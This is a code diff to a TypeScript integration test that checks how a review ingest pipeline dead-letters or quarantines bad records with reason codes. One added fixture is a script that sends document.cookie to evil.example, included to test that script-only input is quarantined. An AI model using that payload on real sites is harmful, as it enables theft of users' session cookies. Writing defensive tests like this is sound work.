@@ -21,12 +21,15 @@ describe('bad input on a real broker', () => {
   it('bad input matrix: each bad record ends where the spec says with a reason code, and the next record goes on', async () => {
     const unknownFingerprint = Buffer.concat([Buffer.from([0xc3, 0x01]), Buffer.alloc(8, 0xab), Buffer.from('body')]);
     const cases: Array<{ id: string; value: Buffer }> = [
-      { id: 'not-avro', value: Buffer.from('{"text":"this is JSON, not Avro"}') },
+      // Plain text: a JSON object is a review on the ingest topic now (src/ingest/wire.ts), so it would not be dead-lettered.
+      { id: 'not-avro', value: Buffer.from('this is plain text, neither Avro nor JSON') },
       { id: 'unknown-fingerprint', value: unknownFingerprint },
       { id: 'empty-text', value: encode('review-raw', raw('empty-text', '', 1)) },
       { id: 'too-long', value: encode('review-raw', raw('too-long', 'word '.repeat(30_000), 1)) },
       { id: 'controls-only', value: encode('review-raw', raw('controls-only', '\u0001\u0002\u0003\u0007', 1)) },
       { id: 'html-only', value: encode('review-raw', raw('html-only', '<div><br /><p></p></div>', 0)) },
+      { id: 'script-only', value: encode('review-raw', raw('script-only', '<script>document.location = "https://evil.example/?c=" + document.cookie;</script>', 1)) },
+      { id: 'style-and-comment-only', value: encode('review-raw', raw('style-and-comment-only', '<style>body { display: none }</style><!-- a long comment that is not review text --><![CDATA[ nor is this ]]>', 1)) },
       { id: 'missing-label', value: encode('review-raw', raw('missing-label', 'a perfectly reasonable review without any label at all', null)) },
       { id: 'label-out-of-range', value: encode('review-raw', raw('label-out-of-range', 'another reasonable review whose label is out of range', 5)) },
     ];
@@ -52,7 +55,7 @@ describe('bad input on a real broker', () => {
       dlq.set(m.key!.toString(), letter.errorCode);
       expect(letter.stage).toBe('clean');
       expect(letter.sourceTopic).toBe(topology.ingest);
-      if (m.key!.toString() === 'not-avro') expect(letter.value!.toString()).toContain('this is JSON');
+      if (m.key!.toString() === 'not-avro') expect(letter.value!.toString()).toContain('this is plain text');
     });
     expect(dlq.get('not-avro')).toBe('NOT_SINGLE_OBJECT');
     expect(dlq.get('unknown-fingerprint')).toBe('UNKNOWN_FINGERPRINT');
@@ -65,6 +68,9 @@ describe('bad input on a real broker', () => {
     expect(quarantined.get('empty-text')).toContain('too-short');
     expect(quarantined.get('controls-only')).toContain('too-short');
     expect(quarantined.get('html-only')).toContain('too-short');
+    for (const id of ['empty-text', 'controls-only', 'html-only', 'script-only', 'style-and-comment-only']) {
+      expect(quarantined.get(id), id).toContain('no-text');
+    }
     expect(quarantined.get('missing-label')).toContain('missing-label');
     expect(quarantined.get('label-out-of-range')).toContain('invalid-label');
     expect(quarantined.get('too-long')).toBeDefined();
